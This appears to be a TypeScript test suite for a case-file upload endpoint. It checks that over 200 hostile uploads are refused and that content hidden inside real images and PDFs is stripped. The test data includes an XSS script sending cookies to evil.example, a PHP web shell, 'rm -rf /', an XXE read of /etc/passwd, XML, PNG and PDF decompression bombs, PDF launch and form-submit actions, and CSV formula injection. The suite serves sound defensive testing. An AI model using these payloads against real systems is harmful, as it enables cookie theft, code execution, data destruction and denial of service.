import { deflateSync, gzipSync } from 'node:zlib'
import { PDFDocument, PDFName, PDFString } from 'pdf-lib'
import type { Payload } from 'payload'
import { type CaseCounty, buildCaseCounty, idIn, registration } from '../../helpers/cases'
import { pdf, photo, upload } from '../../helpers/caseFiles'
import { type TestPayload, startTestPayload } from '../../helpers/payload'
import { callApi, logInAs } from '../../helpers/people'

let running: TestPayload
let payload: Payload
let county: CaseCounty
let cookie: string
let caseId: string

beforeAll(async () => {
  running = await startTestPayload()
  payload = running.payload
  county = await buildCaseCounty(payload)
  cookie = await logInAs(payload, 'village')
  await freshCase()
}, 120_000)

async function freshCase(): Promise<void> {
  caseId = idIn(await county.as.village.post('/cases/register', registration()))
}

type Bytes = Buffer<ArrayBufferLike>
interface Hostile {
  name: string
  data: () => Promise<Bytes> | Bytes
  kind?: string
}

const text = (content: string) => Buffer.from(content)
/** The test file of virus scanners, put together here so that no scanner takes this test for one. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
const script = '<script>fetch("https://evil.example/"+document.cookie)</script>'
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`

/** Content that is never a photo or a PDF. */
const plain: Record<string, Bytes> = {
  html: text(`<!DOCTYPE html><html><body>${script}</body></html>`),
  'html without a head': text(script),
  'html with a mark': Buffer.concat([Buffer.from('efbbbf', 'hex'), text(`<html>${script}</html>`)]),
  'html in UTF-16': Buffer.from(`\ufeff<html>${script}</html>`, 'utf16le'),
  svg: text(svg),
  'svg with a prologue': text(`<?xml version="1.0"?><!DOCTYPE svg>${svg}`),
  'svg in gzip': gzipSync(svg),
  xml: text('<?xml version="1.0"?><a/>'),
  'xml that reads files': text(
    '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  ),
  'xml that laughs': text(
    `<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">${'bcdefgh'
      .split('')
      .map((one, at) => `<!ENTITY ${one} "${`&${'abcdefgh'[at]};`.repeat(10)}">`)
      .join('')}]><l>&h;</l>`,
  ),
  xslt: text('<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>'),
  javascript: text('alert(1)'),
  json: text('{"__proto__":{"isAdmin":true}}'),
  php: text('<?php system($_GET["c"]); ?>'),
  shell: text('#!/bin/sh\nrm -rf /\n'),
  batch: text('@echo off\r\ndel *.*\r\n'),
  eicar: text(eicar),
  csv: text('=cmd|"/c calc"!A1,1\n'),
  rtf: text('{\\rtf1\\ansi\\objocx}'),
  mht: text('MIME-Version: 1.0\nContent-Type: text/html\n\n<html/>'),
  postscript: text('%!PS-Adobe-3.0\n(/etc/passwd) (r) file\n'),
  eps: text('%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n'),
  exe: Buffer.concat([Buffer.from('4d5a9000030000000400', 'hex'), Buffer.alloc(200)]),
  elf: Buffer.concat([Buffer.from('7f454c4602010100', 'hex'), Buffer.alloc(200)]),
  'java class': Buffer.from('cafebabe00000034', 'hex'),
  wasm: Buffer.from('0061736d01000000', 'hex'),
  dex: text('dex\n035\0'),
  zip: Buffer.from('504b0304140000000800', 'hex'),
  'an empty zip': Buffer.from(`504b0506${'00'.repeat(18)}`, 'hex'),
  rar: Buffer.from('526172211a0700', 'hex'),
  '7z': Buffer.from('377abcaf271c0004', 'hex'),
  gzip: gzipSync(Buffer.alloc(5_000_000)),
  'gzip in gzip': gzipSync(gzipSync(Buffer.alloc(50_000_000))),
  bzip2: Buffer.from('425a6839314159265359', 'hex'),
  xz: Buffer.from('fd377a585a000004', 'hex'),
  tar: Buffer.concat([
    text('../../etc/passwd'),
    Buffer.alloc(241),
    text('ustar\u000000'),
    Buffer.alloc(300),
  ]),
  ole: Buffer.from('d0cf11e0a1b11ae1', 'hex'),
  swf: text('CWS\u0009'),
  lnk: Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
  iso: Buffer.concat([Buffer.alloc(32_769), text('CD001')]),
  gif: Buffer.from(
    '47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b',
    'hex',
  ),
  'gif that is a script': text('GIF89a/*<svg/onload=alert(1)>*/=alert(1)//'),
  bmp: Buffer.concat([text('BM'), Buffer.alloc(60)]),
  ico: Buffer.from('00000100010010101000010004002801', 'hex'),
  tiff: Buffer.from('49492a0008000000', 'hex'),
  psd: text('8BPS\0\u0001'),
  jp2: Buffer.from('0000000c6a5020200d0a870a', 'hex'),
  mp4: Buffer.from('00000018667479706d703432000000006d70343269736f6d', 'hex'),
  mp3: text('ID3\u0003'),
  wav: text('RIFF\u0024\0\0\0WAVEfmt '),
  font: Buffer.from('774f4632000100000000', 'hex'),
  sqlite: text('SQLite format 3\0'),
  nothing: Buffer.alloc(0),
  zeros: Buffer.alloc(2000),
  'one byte': Buffer.from('ff', 'hex'),
}

const heads = {
  jpeg: Buffer.from('ffd8ffe000104a46494600010100000100010000', 'hex'),
  png: Buffer.from('89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c489', 'hex'),
  webp: Buffer.concat([text('RIFF'), Buffer.from('24000000', 'hex'), text('WEBPVP8 ')]),
  heic: Buffer.from('000000186674797068656963000000006d696631686569630000', 'hex'),
  avif: Buffer.from('000000186674797061766966000000006d69663161766966', 'hex'),
  pdf: text('%PDF-1.7\n'),
}

/** A picture that says it is so large, in a few kilobytes. */
function pngBomb(side: number): Bytes {
  const chunk = (type: string, data: Buffer) => {
    const head = Buffer.alloc(8)
    head.writeUInt32BE(data.length)
    head.write(type, 4)
    return Buffer.concat([head, data, Buffer.alloc(4)])
  }
  const size = Buffer.alloc(13)
  size.writeUInt32BE(side, 0)
  size.writeUInt32BE(side, 4)
  size.set([1, 0, 0, 0, 0], 8)
  const rows = deflateSync(Buffer.alloc(2_000_000))
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', size),
    chunk('IDAT', rows),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** A stream of objects that unpacks to so many megabytes. */
function pdfBomb(megabytes: number, filters = '/FlateDecode', rounds = 1): Bytes {
  let packed: Buffer = Buffer.alloc(megabytes * 1024 * 1024, 0x20)
  for (let round = 0; round < rounds; round += 1) packed = deflateSync(packed)
  return Buffer.concat([
    text(
      `%PDF-1.7\n1 0 obj<</Type/ObjStm/N 1/First 4/Filter${filters}/Length ${packed.length}>>stream\n`,
    ),
    packed,
    text('\nendstream endobj\ntrailer<</Root 2 0 R>>\nstartxref\n9\n%%EOF'),
  ])
}

type Spoil = (document: PDFDocument) => void
async function spoiled(spoil: Spoil): Promise<Bytes> {
  const document = await PDFDocument.create()
  document.addPage()
  spoil(document)
  return Buffer.from(await document.save())
}
const inCatalog =
  (key: string, value: Parameters<PDFDocument['context']['obj']>[0]): Spoil =>
  ({ catalog, context }) =>
    catalog.set(PDFName.of(key), context.obj(value))
const onPage =
  (key: string, value: object): Spoil =>
  (document) =>
    document.getPage(0).node.set(PDFName.of(key), document.context.obj(value as never))

const actions: Record<string, object> = {
  javascript: { S: 'JavaScript', JS: PDFString.of('app.alert(1)') },
  'javascript by another name': { S: 'Rendition', JS: PDFString.of('app.alert(1)') },
  launch: { S: 'Launch', F: PDFString.of('cmd.exe') },
  'sending a form': { S: 'SubmitForm', F: PDFString.of('https://evil.example/') },
  'reading data': { S: 'ImportData', F: PDFString.of('/etc/passwd') },
  'going into an attachment': { S: 'GoToE', T: { R: 'C' } },
  movie: { S: 'Movie' },
  sound: { S: 'Sound' },
}
const places: Record<string, (action: object) => Spoil> = {
  'on opening': (action) => inCatalog('OpenAction', action as never),
  'on closing': (action) => inCatalog('AA', { WC: action } as never),
  'on a page': (action) => onPage('AA', { O: action }),
  'in a link': (action) => onPage('Annots', [{ Type: 'Annot', Subtype: 'Link', A: action }]),
  'after another action': (action) =>
    inCatalog('OpenAction', { S: 'GoTo', D: [], Next: action } as never),
}
const carried: Record<string, Spoil> = {
  'a named script': inCatalog('Names', { JavaScript: { Names: [] } } as never),
  'named attachments': inCatalog('Names', { EmbeddedFiles: { Names: [] } } as never),
  'an attachment on a page': onPage('Annots', [{ Type: 'Annot', Subtype: 'FileAttachment' }]),
  'a player': onPage('Annots', [{ Type: 'Annot', Subtype: 'RichMedia' }]),
  'a model': onPage('Annots', [{ Type: 'Annot', Subtype: '3D' }]),
  'a dynamic form': inCatalog('AcroForm', { XFA: [], Fields: [] } as never),
  'an attached file': inCatalog('AF', [{ Type: 'Filespec', EF: {} }] as never),
}

const table: Hostile[] = [
  ...Object.entries(plain).map(([name, data]) => ({ name, data: () => data })),
  // Nothing of it becomes a photo by the first bytes of one.
  ...Object.entries(heads).flatMap(([head, bytes]) =>
    [
      'html',
      'svg',
      'xml',
      'php',
      'shell',
      'eicar',
      'exe',
      'elf',
      'zip',
      'ole',
      'zeros',
      'javascript',
      'nothing',
    ].map((name) => ({
      name: `${name} behind the head of a ${head}`,
      data: () => Buffer.concat([bytes, plain[name] ?? Buffer.alloc(0)]),
    })),
  ),
  ...(['jpeg', 'png', 'webp', 'avif'] as const).flatMap((format) =>
    [0.1, 0.3, 0.6, 0.9].map((part) => ({
      name: `the first ${part * 100}% of a ${format}`,
      data: async () => {
        const whole = await photo({ format, width: 300, height: 300 })
        return whole.subarray(0, Math.floor(whole.length * part))
      },
    })),
  ),
  ...[20_000, 40_000, 65_000, 2_000_000_000].map((side) => ({
    name: `a picture of ${side} × ${side}`,
    data: () => pngBomb(side),
  })),
  ...Object.entries(places).flatMap(([where, place]) =>
    Object.entries(actions).map(([what, action]) => ({
      name: `a PDF with ${what} ${where}`,
      data: () => spoiled(place(action)),
    })),
  ),
  ...Object.entries(carried).map(([name, spoil]) => ({
    name: `a PDF with ${name}`,
    data: () => spoiled(spoil),
  })),
  {
    name: 'a PDF with a script whose name is written in numbers',
    data: async () => {
      const bytes = await spoiled(inCatalog('OpenAction', { S: 'JavaScript', JS: '' } as never))
      return Buffer.from(
        bytes.toString('latin1').replaceAll('/JavaScript', '/J#61vaScript'),
        'latin1',
      )
    },
  },
  {
    name: 'a PDF with a password',
    data: () =>
      text(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n3 0 obj<</Filter/Standard/V 2>>endobj\ntrailer<</Root 1 0 R/Encrypt 3 0 R/Size 4>>\nstartxref\n9\n%%EOF',
      ),
  },
  { name: 'a PDF of 201 pages', data: () => pdf(201) },
  {
    name: 'a PDF that goes round in circles',
    data: () =>
      text(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]/Count 9>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF',
      ),
  },
  {
    name: 'a PDF as deep as a well',
    data: () => text(`%PDF-1.7\n1 0 obj${'['.repeat(200_000)}endobj\n%%EOF`),
  },
  { name: 'half a PDF', data: async () => (await pdf(3)).subarray(0, 200) },
  ...[200, 500].map((size) => ({
    name: `a PDF that unpacks to ${size} MB`,
    data: () => pdfBomb(size),
  })),
  {
    name: 'a PDF that unpacks twice',
    data: () => pdfBomb(500, '[/FlateDecode/FlateDecode]', 2),
  },
  ...['html', 'svg', 'eicar', 'exe', 'zip', 'zeros'].map((name) => ({
    name: `${name} as a signature`,
    data: () => plain[name] ?? Buffer.alloc(0),
    kind: 'signature',
  })),
  { name: 'a PDF as a signature', data: () => pdf(), kind: 'signature' },
]

const send = (data: Uint8Array, kind = 'other') => upload(payload, { cookie, caseId, kind, data })

test('there are at least 200 of them', () => {
  expect(new Set(table.map(({ name }) => name)).size).toBeGreaterThanOrEqual(200)
})

test('a hostile upload is refused in Chinese, leaves nothing, and memory stays under its cap', async () => {
  const wrong: string[] = []
  const before = process.memoryUsage.rss()
  let most = before
  const watch = setInterval(() => {
    most = Math.max(most, process.memoryUsage.rss())
  }, 20)
  for (const { name, data, kind } of table) {
    const answer = await send(await data(), kind)
    const { message = '' } = (await answer.json()) as { message?: string }
    if (answer.status !== 415 || !/\p{Script=Han}/u.test(message)) {
      wrong.push(`${name}: ${answer.status} ${message}`)
    }
  }
  clearInterval(watch)
  expect(wrong).toEqual([])
  const { totalDocs } = await payload.count({ collection: 'case-files', overrideAccess: true })
  expect(totalDocs).toBe(0)
  expect((most - before) / 1024 / 1024).toBeLessThan(1500)
}, 400_000)

/** What stands behind, before or within a real file, and is gone from what is kept. */
const polyglots: Hostile[] = (
  ['html', 'svg', 'zip', 'php', 'eicar', 'javascript'] as const
).flatMap((name) => {
  const payloadBytes = Buffer.concat([text(`canary-${name}`), plain[name] ?? Buffer.alloc(0)])
  return [
    ...(['jpeg', 'png', 'webp'] as const).map((format) => ({
      name: `a ${format} with ${name} at its end`,
      data: async () => Buffer.concat([await photo({ format }), payloadBytes]),
    })),
    {
      name: `a jpeg with ${name} in its comment`,
      data: async () => {
        const whole = await photo()
        const length = Buffer.alloc(2)
        length.writeUInt16BE(payloadBytes.length + 2)
        const comment = Buffer.concat([Buffer.from('fffe', 'hex'), length, payloadBytes])
        return Buffer.concat([whole.subarray(0, 2), comment, whole.subarray(2)])
      },
    },
    {
      name: `a PDF with ${name} at its end`,
      data: async () => Buffer.concat([await pdf(), payloadBytes]),
    },
    {
      name: `a PDF with ${name} in a comment`,
      data: async () => {
        const whole = await pdf()
        const [head, rest] = [whole.subarray(0, 9), whole.subarray(9)]
        return Buffer.concat([head, text(`%canary-${name} <html>${script}</html>\n`), rest])
      },
    },
  ]
})

test('what hides in a real file is not in what is given out', async () => {
  const wrong: string[] = []
  for (const { name, data, kind } of polyglots) {
    const answer = await send(await data(), kind)
    const { id } = (await answer.json()) as { id?: string }
    if (answer.status === 415) continue
    const file = await callApi(payload, `/cases/${caseId}/files/${id}`, { cookie })
    const bytes = Buffer.from(await file.arrayBuffer()).toString('latin1')
    const isSafe =
      file.status === 200 &&
      !/canary-|<script|EICAR/.test(bytes) &&
      /^attachment/.test(file.headers.get('content-disposition') ?? '') &&
      file.headers.get('x-content-type-options') === 'nosniff'
    if (!isSafe) wrong.push(`${name}: ${file.status}`)
  }
  expect(wrong).toEqual([])
}, 120_000)

test('the name and type that come with a file decide nothing', async () => {
  for (const [type, name] of [
    ['text/html', 'x.html'],
    ['image/svg+xml', 'x.svg'],
    ['application/x-msdownload', '../../x.exe'],
  ]) {
    const answer = await upload(payload, {
      cookie,
      caseId,
      kind: 'other',
      data: await photo(),
      headers: { 'Content-Type': type ?? '', 'X-File-Name': name ?? '' },
    })
    expect(answer.status).toBe(201)
    const { id } = (await answer.json()) as { id: string }
    const file = await callApi(payload, `/cases/${caseId}/files/${id}`, { cookie })
    expect(file.headers.get('content-type')).toBe('image/jpeg')
    expect(file.headers.get('content-disposition')).not.toContain('x.')
  }
})
